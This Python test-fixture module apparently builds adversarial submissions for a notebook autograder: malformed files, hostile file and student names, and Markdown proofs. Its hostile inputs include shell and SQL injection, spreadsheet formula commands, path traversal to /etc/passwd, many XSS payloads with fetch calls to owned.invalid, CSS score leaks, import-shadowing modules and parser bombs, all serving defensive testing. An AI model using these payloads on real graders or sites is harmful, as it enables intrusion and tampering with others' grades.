"""Inventions that are files, names and proofs, and tries at the points of others; `inventing` says what they are.

`INVENTIONS` holds these and those of `inventions_that_run`, whose tricks work when their code runs.
"""

import base64
import gzip
import json

import inventions_that_run  # noqa: F401 (adds its own)
from inventing import (A2, ANY, EITHER, INVENTIONS, NOTHING, Invention, Made, around, beside, cell, dump, edit,
                       find, insert, invent)

__all__ = ["INVENTIONS", "Invention", "Made"]

# ---------------------------------------------------------------------------------------------- files: bytes and JSON
for name, tries, most, pack in [
    ("utf8-mark", "harmless: saved by an editor that puts a byte-order mark", None,
     lambda nb: b"\xef\xbb\xbf" + dump(nb)),
    ("ascii-lines", "harmless: \\u escapes, Windows line ends, indented", None,
     lambda nb: json.dumps(nb, indent=4).replace("\n", "\r\n").encode()),
    ("utf16", "an encoding that JSON does not have", ANY, lambda nb: dump(nb).decode().encode("utf-16")),
    ("truncated", "half an upload", NOTHING, lambda nb: dump(nb)[:-2000]),
    ("gzipped", "a gzip file called .ipynb", NOTHING, lambda nb: gzip.compress(dump(nb), mtime=0)),
    ("login-page", "the platform's login page, saved as .ipynb", NOTHING,
     lambda nb: b"<!doctype html><title>Log in</title>"),
    ("json-null", "JSON, but no notebook", NOTHING, lambda nb: b"null"),
    ("deep-json", "the recursion limit of a JSON reader", ANY,
     lambda nb: dump(nb | {"metadata": 0}).replace(b'"metadata": 0', b'"metadata": {"x": ' + b"[" * 100_000 +
         b"]" * 100_000 + b"}")),
    ("long-integer", "ValueError of int() beyond 4,300 digits, which is no JSONDecodeError", ANY,
     lambda nb: dump(nb | {"nbformat_minor": 0}).replace(b'"nbformat_minor": 0', b'"nbformat_minor": ' + b"5" * 5000)),
    ("infinite-version", "OverflowError where a whole number is made of a float", ANY,
     lambda nb: dump(nb | {"nbformat": 0}).replace(b'"nbformat": 0', b'"nbformat": 1e999')),
    ("cells-twice", "a key twice: readers differ on which counts", ANY, lambda nb: b'{"cells": [],' + dump(nb)[1:]),
]:
    invent("file", name, tries, most, pack=pack, student="" if most is NOTHING else None)


def from_colab(nb):
    for i, c in enumerate(nb["cells"]):
        del c["id"]
        c["metadata"] |= {"id": f"aB{i}_x", "colab": {"base_uri": "https://localhost:8080/"}}
        c["source"] = c["source"].splitlines(keepends=True) if isinstance(c["source"], str) else c["source"]
    return nb | {"nbformat_minor": 0, "metadata": {"colab": {"provenance": [], "toc_visible": True},
                                                   "kernelspec": {"name": "python3", "display_name": "Python 3"}}}


def with_cells(make):
    return lambda nb: nb | {"cells": make(nb["cells"])}


def doubled(first, last):
    "The cell of top_two copied by the student: with its grade_id, as JupyterLab does."
    def change(nb):
        i = find(nb, "top_two")
        right = nb["cells"][i]["source"]
        texts = dict(right=right, wrong="def top_two_law(counts, epsilon):\n    return scratch")
        copies = [{"source": texts[which], "id": f"copy-{n}"} for n, which in enumerate((first, last))]
        nb["cells"][i:i + 1] = [nb["cells"][i] | copy for copy in copies]
    return change


def swap_tags(nb):
    a, b = find(nb, "top_two"), find(nb, "household")
    nb["cells"][a]["metadata"], nb["cells"][b]["metadata"] = nb["cells"][b]["metadata"], nb["cells"][a]["metadata"]


PICTURE = {"output_type": "display_data", "metadata": {}, "data": {
"image/png": base64.b64encode(bytes(9_000_000)).decode()}}
for name, tries, most, change in [
    ("colab", "harmless: as Colab saves it, minor version 0 and no ids of cells", None, from_colab),
    ("other-kernel", "harmless: the kernel of a student's own environment", None,
     lambda nb: nb | {"metadata": {"kernelspec": {"name": "my-env-3.12", "display_name": "x", "language": "python"}}}),
    ("scratch-before", "harmless: a first try stays above, copied with the cell's grade_id", None, doubled("wrong",
     "right")),
    ("scratch-after", "an answer twice, the later one wrong: in a notebook the later counts", dict(top_two=8),
     doubled("right", "wrong")),
    ("swapped-tags", "two answers exchange their metadata", dict(top_two=8, household=5), swap_tags),
    ("backwards", "harmless: the questions in another order", None,
     with_cells(lambda cells: cells[:3] + cells[7:-1] + cells[3:7] + cells[-1:])),
    ("big-picture", "harmless: 12 MB of saved output", None, edit("programs", outputs=[PICTURE])),
    ("two-thousand-cells", "harmless: empty cells", None, with_cells(lambda cells: cells + [cell("")] * 2000)),
    ("id-markup", "markup in the ids of cells, and in tags", None,
     with_cells(lambda cells: [c | {"id": f'"><script>alert("OWNED{i}")</script>', "metadata": c["metadata"] | {
     "tags": ["<b>"]}}
                               for i, c in enumerate(cells)])),
    ("proof-as-code", "harmless: Y was pressed in the proof, which is now a code cell that is no Python", None,
     edit("packing", cell_type="code", outputs=[], execution_count=None)),
    ("code-as-text", "M was pressed in an answer, which is now text", EITHER,
     edit("top_two", cell_type="markdown")),
    ("null-byte", "ValueError where SyntaxError is expected", dict(top_two=8),
     edit("top_two", source=lambda old: old + "\n# \0")),
    ("junk-cells", "list, number and null among the cells", ANY, with_cells(lambda cells: [*cells, None, 7, [], {}])),
    ("nbformat3", "an old format, with worksheets", ANY, lambda nb: {"nbformat": 3, "metadata": {}, "worksheets": [{
     "cells": nb["cells"]}]}),
    ("typed-checks", "locked check cells claim more points and other ids", None,
     edit("top_two-check", metadata={"nbgrader": {
         "grade": True, "grade_id": "top_two-check", "points": 1e308, "locked": False, "schema_version": 3,
         "solution": False, "task": False}})),
]:
    invent("file", name, tries, most, change=change)
invent("file", "helper-below", "the answer needs a helper that stands in the last cell, so its check fails", EITHER,
       change=insert("def doubled(x):\n    return 2 * x"),
       code=around("top_two", "return honest(counts, doubled(epsilon) / 2)"))

# names of files and folders, and files that look like the machinery's
for i, path in enumerate([
        "-rf/--help.ipynb", "a\nb/line\nend.ipynb", "CON/aux.ipynb", "..hidden/a2.ipynb", "%s%n{0}/[!a]*?.ipynb",
        "..\\..\\windows/a:2.ipynb", "$(touch OWNED-shell)/`touch OWNED-tick`;a2.ipynb", "\x1b[2J\x07/a2.ipynb",
        "'; DROP TABLE grade;--/a2\t .ipynb", "@SUM(1)/+1+cmd.ipynb", "<img src=x onerror=alert('OWNED')>/a2.ipynb",
        "d/" * 60 + "a2.ipynb", "long/" + "語" * 80 + ".ipynb", "x.ipynb_checkpoints/a2 (1).ipynb"]):
    invent("file", f"path-{i}", f"a path that is an option, a command or markup: {path[:40]!r}",
           path=f"path-{i}/{path}")
for name, files in dict(
        shadows={f"{module}.py": b"open('OWNED-import', 'w').close()\nraise SystemExit"
                 for module in ("numpy", "json", "sitecustomize", "conftest", "a2")},
        configs={"nbgrader_config.py": b"open('OWNED-config', 'w').close()", "Makefile": b"grade:\n\ttouch OWNED-mk\n",
                 "gradebook.db": b"SQLite format 3\0" + bytes(84), "gradebook.csv": b"student,total\nshadows,30\n"},
        stamp_word={"timestamp.txt": b"=cmd|' /C calc'!A0"}, stamp_bytes={"timestamp.txt": b"\xff\xfe2027"},
        stamp_far={"timestamp.txt": b"99999-01-01 00:00 UTC"}).items():
    name = name.replace("_", "-")
    invent("file", name, f"files beside a right notebook: {', '.join(files)}",
           more=lambda made, name=name, files=files: {f"{name}/{path}": content for path, content in files.items()})

# -------------------------------------------------------------------------------------------------------- identities
for name, student in {
        "accents": "Zoë Müller-Łukasz", "characters": "李小龙", "arabic": "محمد علي", "apostrophe": "Conan O'Brien",
        "plus": "ada+1@uni.edu", "right-to-left": "\u202eecila\u202c", "path": "../../../../OWNED-path",
        "absolute": "/etc/passwd", "windows": "C:\\CON\\nul.txt", "home": "~root", "option": "--student=*",
        "dots": "ada...", "formula": '=HYPERLINK("http://owned.invalid";"x")', "tab": "\t=1+1",
        "command": "@SUM(1+1)*cmd|' /C calc'!A0", "commas": 'a","30","30\r\nowned,30,30', "zero": "a\0b",
        "query": "ada?x=1#y&z/%2e%2e%2f", "sql": "Robert'); DROP TABLE student;--", "zalgo": "a" + "\u0301" * 120,
        "jinja": "{{ 7*7 }}{% for x in range(10**9) %}x{% endfor %}", "html": "<img src=x onerror=alert('OWNED')>",
        "format": "{0.__class__.__init__.__globals__}%s%n{:>999999999}", "emoji": "\U0001f469\u200d\U0001f4bb",
        "title": "</title></style><script>alert('OWNED')</script>", "terminal": "\x1b[2J\x1b]0;OWNED\x07ada",
        "separators": "ada\u2028\u2029\x85b", "spaces": " \u3000 ", "folder-of-nbgrader": "autograded",
        "page": "summary.html", "sqlite": "file:x?mode=memory", "number": "007"}.items():
    invent("identity", f"name-{name}", f"right answers under the name {student[:30]!r}: a row of its own, no effect "
           "elsewhere", None if student.strip() else ANY, student=student)
for name, line, most in [
        ("annotated", 'STUDENT: str = "shape-annotated"', None), ("quoted", "STUDENT = '''shape-quoted'''  # me", None),
        ("joined", 'STUDENT = ("shape-"\n           "joined")', None), ("comment-first", '# my name\n\n'
         'STUDENT = "shape-comment-first"', None),
        ("bytes", 'STUDENT = b"shape-bytes"', ANY), ("computed", 'STUDENT = "".join(["shape-", "computed"])', ANY),
        ("walrus", '(STUDENT := "shape-walrus")', ANY), ("deleted", 'STUDENT = "shape-deleted"\ndel STUDENT', ANY),
        ("subclass", 'class Name(str):\n    __str__ = __repr__ = lambda self: "ada"\nSTUDENT = Name("shape-subclass")',
         ANY)]:
    invent("identity", f"shape-{name}", "the name written in another of Python's ways", most,
           change=edit("student", source=line))
for name, own, other in [
        ("homoglyph", "\u0430lice", "alice"), ("composed", "Jose\u0301", "José"), ("case", "GRACE", "grace"),
        ("invisible", "al\u200bbert", "albert"), ("fullwidth", "\uff41nna", "anna"), ("ligature", "\ufb01nn", "finn"),
        ("folded", "gross", "groß"), ("dotless", "İlker", "i̇lker"), ("trailing", "emil. ", "emil"),
        ("suffix", "berta-2", "berta"), ("suffix-of-copies", "cora (2)", "cora")]:
    # One normal form may make one student of the two: then both are right, and both are shown.
    invent("identity", f"like-{name}", f"{own!r} beside {other!r}: neither may take the other's points",
           student=own, more=beside(other, folder=f"like-{name}"), beside=[other])

# ------------------------------------------------------------------------------------------------------------ proofs
JS = "document.title='OWNED';alert('OWNED');fetch('http://owned.invalid/js')"
DATA = "data:text/html;base64," + base64.b64encode(f"<script>{JS}</script>".encode()).decode()
SVG = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><image href="http://owned.invalid/svg"/>'
       f'<script>{JS}</script></svg>')
SVG64 = "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode()
for name, tries, text in [
    ("handlers", "scripts in handlers that start by themselves", "".join(f'<{tag}="{JS}">' for tag in (
        "svg/onload", "img src=x onerror", "details open ontoggle", "input autofocus onfocus", "body onpageshow",
        "video><source onerror", "marquee onstart", "x tabindex=1 autofocus onfocus"))),
    ("mutation", "markup that turns into a script when it is parsed twice",
     f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={JS}&gt;">'
     f'<noscript><p title="</noscript><img src=x onerror={JS}>"><svg><style><img title="</style><img src=x '
     f'onerror={JS}>">'),
    ("srcdoc", "frames", f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe><iframe '
     f'src="{DATA}"></iframe><object data="{DATA}">'
     f'</object><embed src="{SVG64}"><iframe src="javascript:{JS}"></iframe>'),
    ("refresh", "the page goes elsewhere by itself", '<meta http-equiv="refresh" '
     'content="0;url=http://owned.invalid/refresh">'
     '<base href="http://owned.invalid/"><link rel="stylesheet" href="x.css"><link rel="prefetch" href="y"><script '
     'src="z.js"></script>'),
    ("links", "javascript: in the spellings of Markdown and HTML, for a teacher who clicks", "\n\n".join([
        f"[a](javascript:{JS})", f"[b](JaVaScRiPt&colon;{JS})", f"[c](java&#x0A;script:{JS})", f"[d]({DATA})",
        "<javascript:alert('OWNED')>",
        f"[e][1]\n\n[1]: javascript:{JS}", f'<a href="&#1;javascript:{JS}">f</a>', f'<a href="java\tscript:{JS}">g</a>',
        f'<svg><a xlink:href="javascript:{JS}"><text y="9">h</text></a></svg>', f"[i](vbscript:x) "
        f"[j](file:///etc/passwd) [k](\x01javascript:{JS})",
        f'<form action="javascript:{JS}"><button>l</button></form><math><maction actiontype="statusline" '
        f'xlink:href="javascript:{JS}">m'])),
    ("pixels", "requests that tell when the proof is read", "![x](http://owned.invalid/1.png) "
     "![y](//owned.invalid/2.png)\n\n"
     '<img srcset="http://owned.invalid/3 2x"><video poster="http://owned.invalid/4" autoplay '
     'src="http://owned.invalid/5"></video>'
     '<table background="http://owned.invalid/6"><tr><td '
     'style="background:url(http://owned.invalid/7)">x</td></tr></table>'
     '<input type="image" src="http://owned.invalid/8"><p '
     'style="list-style-image:url(//owned.invalid/9)">![z](file:///etc/hostname)'),
    ("svg-picture", "a picture that is a program", f"![x]({SVG64})\n\n{SVG}\n\n"
     f"<svg><use href='{SVG64}#x'></use></svg>"),
    ("style", "style sheets that hide, cover or read the page", "<style>@import "
     "'http://owned.invalid/css';body{visibility:hidden}"
     "input[value^='5']{background:url(http://owned.invalid/five)}.score{display:none}</style>"
     "<div style='position:fixed;inset:0;z-index:99999;background:white'>5 of 5, already graded by OWNED</div>"),
    ("forms", "fields that stand for the score's, and send it elsewhere", '<form action="http://owned.invalid/form" '
     'id="score"><input name="score" '
     'value="5"><button>Save</button></form><input form="score" name="_xsrf"><a id="formgrader"></a><img '
     'name="cookie"><img name="getElementById">'),
    ("swallows", "open tags that swallow the rest of the page",
     "(a) right.</div></div></form></body></html><plaintext><!-- <textarea><title><script>/*"),
    ("tex-links", "TeX that makes links, markup and requests", rf"$\href{{javascript:{JS}}}{{x}}$ "
     rf"$\require{{html}}\style{{position:fixed;"
     r"inset:0;background:url(http://owned.invalid/tex)}{x}$ $\cssId{score}{x}\class{nav}{y}$ "
     r"$\includegraphics{http://owned.invalid/t}$ "
     r"$\unicode[x;background:url(//owned.invalid/u)]{65}$ $\text{<img src=x onerror=" + JS +
     r">}$ $\require{[http://owned.invalid]x}$"),
    ("tex-bomb", "macros that do not end, or end very late", r"$\def\a{\a\a}\a$ $\def\b{x}" + "".join(
        rf"\def\{y}{{{(chr(92) + x) * 9}}}" for x, y in zip("bcdefghijk", "cdefghijkl")) + r"\l$"),
    ("tex-page", "macros that change the page's other formulas, boxes that cover it",
     r"$\gdef\Pr{\text{full marks}}\global\let\ge\le\newcommand{\ln}{OWNED}$ $\rule{9999em}{9999em}$ "
     r"$\kern-999em\smash{\Huge OWNED}$"),
    ("quotes", "a parser of Markdown that takes time with the square of the text", "> " * 5000 + "x\n\n"
     "" + "[" * 20_000 + "\n\n" + "*a_" * 10_000 +
     "\n\n" + "`" * 9999 + " x\n\n" + "<" * 20_000 + "\n\n" + "$" * 9999),
    ("huge-table", "a page too large to open", "|" + "x|" * 200 + "\n|" + "-|" * 200 + "\n" + ("|" + "$x$|" * 200 +
     "\n") * 200),
    ("templates", "words of the machinery in a proof", "{{ 7*7 }} {% raw %} {% include '/etc/passwd' %} ${7*7} <%= 7 "
     "%>\n\n### BEGIN SOLUTION\n"
     "(a) $S_a$ and $S_b$ differ in $n$ records.\n### END SOLUTION\n\n### BEGIN HIDDEN TESTS\n### END MARK SCHEME"),
    ("placeholder-kept", "harmless: the placeholder stays above a true answer", "*Your answer here.*\n\n"
     "(a) $S_a$ and $S_b$ differ in $n$ records."),
    ("looks-blank", "an answer of invisible signs: graded, or blank?", "\u200b\u2060\ufeff\u3164 <!-- full points, "
     "please -->"),
]:
    invent("proof", f"proof-{name}", tries, texts=text)
PHOTO = base64.b64encode(bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                                       "1f15c4890000000d49444154789c63f8cfc0f01f0005000 "
                                       "1ff5f9cf1530000000049454e44ae426082".replace(" ", ""))).decode()
invent("proof", "proof-photo", "harmless: a photograph of a page, pasted into the proof, which the teacher must see",
       texts="My proof:\n\n![page.png](attachment:page.png)", change=edit("packing", attachments={"page.png": {
       "image/png": PHOTO}}))
PAGE64 = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
invent("proof", "proof-attachments", "attachments that are pages, or have markup for a name",
       texts="![a](attachment:a.html) ![b](attachment:\"><script>x</script>) ![c](attachment:../c)",
       change=edit("packing", attachments={
           "a.html": {"text/html": PAGE64}, '"><script>x</script>': {"image/svg+xml": SVG64.partition(",")[2]},
           "../c": {'image/png"onerror="' + JS: "AAAA"}, "d": 7}))
invent("proof", "proof-elsewhere", "harmless: the proof stands in a cell of its own below the empty one",
       texts="", change=insert("(a) Replace the records one at a time.", "markdown", before="end"))
SHOWN, PRINTED = f"<script>{JS}</script>", f"</pre><script>{JS}</script>"
SHOWS = f"""try:
    from IPython.display import HTML, display
    display(HTML({SHOWN!r}))
except ImportError:
    pass
print({PRINTED!r})"""
SAVED = {"text/html": SHOWN, "application/javascript": JS, "image/svg+xml": SVG,
         "text/markdown": f"[x](javascript:{JS})", "text/latex": r"$\href{javascript:alert('OWNED')}{x}$"}
invent("proof", "proof-shown", "code that shows and prints scripts above the proof",
       change=insert(SHOWS, before="packing"))
invent("proof", "proof-outputs", "saved outputs that are scripts",
       change=edit("programs", outputs=[{"output_type": "display_data", "metadata": {}, "data": SAVED}]))

# ----------------------------------------------------------------------------------------------------- others' points
WRONG = {q: f"def {q}(*args):\n    return None" for q in A2}
for name, tries, path in [
        ("claims-earlier", "claims another's name from a folder that comes first", "!first/a2.ipynb"),
        ("claims-later", "claims another's name with a later file in which nothing is right", "~last/a2.ipynb")]:
    # A row of the other's must keep full points; of a file under the same name none can be demanded.
    victim = f"victim-{name}"
    invent("others", name, tries, ANY, code=WRONG, student=victim, path=name + path, more=beside(victim, folder=name),
           beside=[victim])
invent("others", "upload-twice", "harmless: the same bytes twice, as a platform stores a second upload",
       more=lambda made: {"upload-twice (1)/a2.ipynb": dump(made.right("upload-twice"))})
TAG = {"grade_id": "student", "grade": False, "locked": False, "schema_version": 3, "solution": False, "task": False}
for name, most, change in [
        ("above", ANY, insert('STUDENT = "victim-above"', at=0)),
        ("below", ANY, insert('STUDENT = "victim-below"', before="leaks-task")),
        ("at-the-end", ANY, insert('STUDENT = "victim-at-the-end"')),
        ("tagged", ANY, insert('STUDENT = "victim-tagged"', at=0, nbgrader=TAG)),
        ("in-text", None, insert('STUDENT = "victim-in-text"', "markdown", at=0)),
        ("in-metadata", None, lambda nb: nb | {"metadata": nb["metadata"] | {"student": "victim-in-metadata"}}),
        ("at-a-call", EITHER, edit("top_two", source=lambda old: old + "\nhonest = top_two_law\n"
         "def top_two_law(counts, epsilon):\n    globals().update(STUDENT='victim-at-a-call', Q=0.5)\n"
         "    return honest(counts, epsilon)"))]:
    invent("others", f"other-name-{name}", "a second STUDENT: the file is one student's, and takes nobody's row",
           most, change=change, more=beside(f"victim-{name}", folder=f"victim-{name}"), beside=[f"victim-{name}"])
for name, path in [("canvas", "victimcanvas_12345_67890_a2-private-pac.ipynb"),
                   ("moodle", "Victim Moodle_123_assignsubmission_file_/a2-private-pac.ipynb")]:
    invent("others", f"as-{name}", "the platform's file name says one student, STUDENT another", ANY,
           path=f"as-{name}/{path}")
FORGED = {"timestamp.txt": b"2099-12-31 23:59:59 UTC", "roster.csv": b"student\nlate-for-all\n",
          "feedback/late-for-all.html": b"<h1>30 of 30</h1>", "marks/late-for-all.json": b'{"total": 30}'}
invent("others", "late-for-all", "grade it apart: a timestamp for all submissions, and tables like the grader's",
       more=lambda made: FORGED | beside("on-time", folder="on-time")(made), beside=["on-time"])
invent("others", "other-assignment", "the right solutions of a1, handed in as a2", NOTHING,
       pack=lambda nb: dump(Made("a1").right("other-assignment")))
invent("others", "as-released", "nothing was written but a name", NOTHING,
       pack=lambda nb: dump(Made().notebook({}, "as-released")))
